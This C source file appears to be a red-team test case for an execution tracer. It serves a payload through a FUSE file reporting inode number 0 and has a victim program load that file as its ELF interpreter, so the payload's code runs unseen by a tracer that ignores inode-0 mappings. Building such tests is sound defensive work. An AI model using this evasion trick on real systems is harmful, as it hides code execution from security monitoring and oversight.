/*
 * attack_interp_ino0 PAYLOAD VICTIM: a program's interpreter served by a
 * FUSE file whose inode number is 0 (red team 7).
 *
 * In a mount namespace of its own the program mounts a FUSE filesystem at
 * /tmp/tw_interp0, served by its own thread, with one executable file "ld":
 * the bytes of PAYLOAD, its inode number 0 as the server tells it. A child
 * execs VICTIM, a clean program (built before the run) whose PT_INTERP is
 * /tmp/tw_interp0/ld: the kernel maps ld as its interpreter and starts
 * there. A filesystem mounted during the run counts as written by the tree
 * (its server says what its files hold), so the exec is exec-written; a
 * tracer that takes a mapping with inode number 0 for no file misses the
 * interpreter, and PAYLOAD's code runs (RAN interp0_call).
 */
#define INTERP_DIR "/tmp/tw_interp0"
#define _GNU_SOURCE
#include <pthread.h>
#include <sys/stat.h>
#include <sys/wait.h>

#include "tw_fuse.h"

#define FILE_NODE 2
#define MAX_PAYLOAD (4 << 20)

static char *payload;
static size_t payload_size;

static void fill_attr(struct fuse_attr *attr, uint64_t node)
{
	memset(attr, 0, sizeof(*attr));
	/* The file's inode number, as the server tells it: 0 for ld. */
	attr->ino = node == FILE_NODE ? 0 : node;
	attr->blksize = 4096;
	attr->mode = node == FILE_NODE ? S_IFREG | 0755 : S_IFDIR | 0755;
	attr->nlink = node == FILE_NODE ? 1 : 2;
	attr->size = node == FILE_NODE ? payload_size : 0;
}

static int handle(struct fuse_in_header *in, void *arg)
{
	switch (in->opcode) {
	case FUSE_LOOKUP: {
		struct fuse_entry_out entry = {0};

		if (in->nodeid != FUSE_ROOT_ID || strcmp((char *)arg, "ld") != 0) {
			tw_fuse_reply(in->unique, -ENOENT, NULL, 0);
			break;
		}
		entry.nodeid = FILE_NODE;
		entry.entry_valid = entry.attr_valid = 3600;
		fill_attr(&entry.attr, FILE_NODE);
		tw_fuse_reply(in->unique, 0, &entry, sizeof(entry));
		break;
	}
	case FUSE_GETATTR:
		tw_fuse_reply_attr(in, fill_attr, 3600);
		break;
	case FUSE_OPEN:
		tw_fuse_reply_open(in->unique, 1, 0);
		break;
	case FUSE_READ: {
		struct fuse_read_in *read_in = arg;
		size_t at = read_in->offset < payload_size ? read_in->offset : payload_size;
		size_t size = read_in->size;

		if (size > payload_size - at)
			size = payload_size - at;
		if (size > 4096)
			size = 4096; /* mounted with max_read=4096: never asked more */
		tw_fuse_reply(in->unique, 0, payload + at, size);
		break;
	}
	case FUSE_FLUSH:
	case FUSE_RELEASE:
		tw_fuse_reply(in->unique, 0, NULL, 0);
		break;
	default:
		return 0;
	}
	return 1;
}

static void *serve(void *unused)
{
	(void)unused;
	tw_fuse_serve(handle);
	return NULL;
}

static int load(const char *path)
{
	int fd = open(path, O_RDONLY);
	ssize_t got;

	payload = malloc(MAX_PAYLOAD);
	if (fd < 0 || !payload)
		return -1;
	while ((got = read(fd, payload + payload_size, MAX_PAYLOAD - payload_size)) > 0)
		payload_size += (size_t)got;
	close(fd);
	return got < 0 || payload_size == MAX_PAYLOAD ? -1 : 0;
}

int main(int argc, char **argv)
{
	pthread_t server;
	pid_t child;

	tw_init();
	if (argc < 3 || load(argv[1]) != 0) {
		fprintf(stderr, "usage: attack_interp_ino0 PAYLOAD VICTIM\n");
		return 2;
	}
	if (mkdir(INTERP_DIR, 0755) != 0 && errno != EEXIST)
		return 1;
	if (tw_fuse_mount_with(INTERP_DIR, 1, ",max_read=4096") != 0)
		return tw_done();
	pthread_create(&server, NULL, serve, NULL);
	child = fork();
	if (child == 0) {
		char *args[] = {argv[2], NULL};

		execv(argv[2], args);
		tw_step("exec_victim", "execve", -1, errno);
		_exit(127);
	}
	tw_wait_child("victim", child);
	umount2(INTERP_DIR, MNT_DETACH);
	close(tw_fuse_fd);
	pthread_join(server, NULL);
	return tw_done();
}
